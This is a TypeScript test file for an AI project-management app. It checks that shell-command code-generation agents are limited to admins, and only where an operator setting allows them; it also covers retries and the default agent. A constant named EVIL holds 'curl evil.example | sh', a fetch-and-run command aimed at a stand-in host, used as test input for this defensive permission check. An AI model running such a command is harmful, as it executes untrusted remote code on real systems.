/**
 * `command:<shell command>` agents run anything on a worker: only an admin may choose one, and only
 * where the operator set AIPM_ALLOW_COMMAND_AGENTS; the configured default is anyone's to use.
 */
import { randomBytes } from "node:crypto";
import type { CodeGenerationTask } from "@aipm/shared";
import { type TestApi, useTestApi } from "@aipm/testing";
import { describe, expect, it } from "vitest";
import type { AppDeps } from "../src/deps.ts";
import {
  createAcceptanceTest,
  createProject,
  createStory,
  createToken,
  expectJson,
  expectProblem,
} from "./fixtures.ts";

const EVIL = "command:curl evil.example | sh";
const ONLY_ADMIN = "only an admin may choose a command agent";
const ASK_OPERATOR = "ask the operator to set AIPM_ALLOW_COMMAND_AGENTS=true";

const testApi = useTestApi();

const unique = () => randomBytes(4).toString("hex");

/** An app with `deps`, a story on a new local repository in it, and its project's id. */
async function setUp(deps: Partial<AppDeps>): Promise<{ api: TestApi; projectId: string; storyId: string }> {
  const api = await testApi.another(deps);
  const project = await createProject(api, {
    name: `Shop ${unique()}`,
    repository: { provider: "local", owner: "acme", name: `shop-${unique()}` },
  });
  const story = await createStory(api, project.id);
  await createAcceptanceTest(api, story.id);
  return { api, projectId: project.id, storyId: story.id };
}

function generate(api: TestApi, storyId: string, agent: string | undefined, token?: string) {
  return api.request("POST", `/api/stories/${storyId}/code-generations`, {
    ...(token !== undefined ? { token } : {}),
    body: agent === undefined ? {} : { agent },
  });
}

async function storyTasks(api: TestApi, projectId: string, storyId: string) {
  return api.deps.tasks.list({ projectId, storyId, limit: 10 });
}

/** Fails the task as a worker would, so that it can be retried. */
async function fail(api: TestApi, taskId: string): Promise<void> {
  await api.deps.tasks.transition(taskId, "claim", { data: { workerId: "test-worker" } });
  await api.deps.tasks.transition(taskId, "fail", {
    error: { code: "agent_failed", message: "The agent exited with code 1." },
  });
}

describe("choosing a command agent in Generate Code & PR", () => {
  it("is refused to a project-scoped editor, even where the operator allows command agents", async () => {
    const { api, projectId, storyId } = await setUp({ allowCommandAgents: true });
    const editor = await createToken(api, "editor", projectId);
    const problem = await expectProblem(await generate(api, storyId, EVIL, editor.token), 403);
    expect(problem.detail).toContain(ONLY_ADMIN);
    // Refused before anything happened: no pull request, no task.
    expect(await storyTasks(api, projectId, storyId)).toEqual([]);
    // A built-in agent is still the editor's to choose.
    await expectJson(await generate(api, storyId, "codex", editor.token), 202);
  });

  it("is refused to an editor of every project", async () => {
    const { api, projectId, storyId } = await setUp({ allowCommandAgents: true });
    const editor = await createToken(api, "editor");
    const problem = await expectProblem(await generate(api, storyId, "command:true", editor.token), 403);
    expect(problem.detail).toContain(ONLY_ADMIN);
    expect(await storyTasks(api, projectId, storyId)).toEqual([]);
  });

  it("is refused to an admin unless the operator allows it, naming the setting", async () => {
    const guarded = await setUp({ allowCommandAgents: false });
    const problem = await expectProblem(await generate(guarded.api, guarded.storyId, EVIL), 403);
    expect(problem.detail).toContain(ASK_OPERATOR);
    expect(await storyTasks(guarded.api, guarded.projectId, guarded.storyId)).toEqual([]);

    // A token made admin is an admin too, not only the configured one.
    const open = await setUp({ allowCommandAgents: true });
    const admin = await createToken(open.api, "admin");
    const { task } = await expectJson<{ task: CodeGenerationTask }>(
      await generate(open.api, open.storyId, EVIL, admin.token),
      202,
    );
    expect(task.agent).toBe(EVIL);
  });

  it("is not needed for the configured default, which an editor may use by naming no agent or naming it", async () => {
    const defaultAgent = "command:make fix";
    const { api, projectId, storyId } = await setUp({ allowCommandAgents: false, defaultAgent });
    const editor = await createToken(api, "editor", projectId);
    const { task } = await expectJson<{ task: CodeGenerationTask }>(
      await generate(api, storyId, undefined, editor.token),
      202,
    );
    expect(task.agent).toBe(defaultAgent);
    await fail(api, task.id);
    // Another command than the default is still refused.
    const problem = await expectProblem(
      await generate(api, storyId, "command:make other", editor.token),
      403,
    );
    expect(problem.detail).toContain(ONLY_ADMIN);
    const named = await expectJson<{ task: CodeGenerationTask }>(
      await generate(api, storyId, defaultAgent, editor.token),
      202,
    );
    expect(named.task.agent).toBe(defaultAgent);
  });
});

describe("retrying a task of a command agent", () => {
  it("is refused to an editor and to an admin the deployment does not allow, unless the agent is the default", async () => {
    const { api, projectId, storyId } = await setUp({ allowCommandAgents: true });
    const { task } = await expectJson<{ task: CodeGenerationTask }>(await generate(api, storyId, EVIL), 202);
    await fail(api, task.id);

    const editor = await createToken(api, "editor", projectId);
    const refused = await expectProblem(
      await api.request("POST", `/api/tasks/${task.id}/retry`, { token: editor.token }),
      403,
    );
    expect(refused.detail).toContain(ONLY_ADMIN);

    // The operator turned the setting off since: the admin's retry is refused as a new request would be.
    api.deps.allowCommandAgents = false;
    const guarded = await expectProblem(await api.request("POST", `/api/tasks/${task.id}/retry`), 403);
    expect(guarded.detail).toContain(ASK_OPERATOR);
    expect((await storyTasks(api, projectId, storyId)).map((each) => each.id)).toEqual([task.id]);

    api.deps.allowCommandAgents = true;
    const retry = await expectJson<CodeGenerationTask>(
      await api.request("POST", `/api/tasks/${task.id}/retry`),
      202,
    );
    expect(retry).toMatchObject({ agent: EVIL, retryOf: task.id });

    // A task of the configured default is anyone's to retry.
    await fail(api, retry.id);
    api.deps.defaultAgent = EVIL;
    api.deps.allowCommandAgents = false;
    await expectJson(await api.request("POST", `/api/tasks/${retry.id}/retry`, { token: editor.token }), 202);
  });
});
